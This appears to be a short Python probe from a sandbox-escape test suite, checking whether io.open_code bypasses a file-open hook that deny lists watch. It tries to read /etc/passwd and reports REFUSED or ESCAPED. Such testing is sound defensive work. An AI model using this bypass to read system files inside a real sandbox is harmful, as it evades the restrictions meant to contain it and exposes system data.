"""The function for reading code reads any file

Technique: io.open_code skips the open hook that deny lists watch
Versions: 3.11 3.12 3.13
Origin: own idea
Expected: AttributeError or PermissionError or ImportError
"""

try:
    import io

    loot = io.open_code("/etc/passwd").read()
except BaseException as error:
    print(f"REFUSED: {type(error).__name__}: {error}")
else:
    print(f"ESCAPED: {loot!r:.120}")
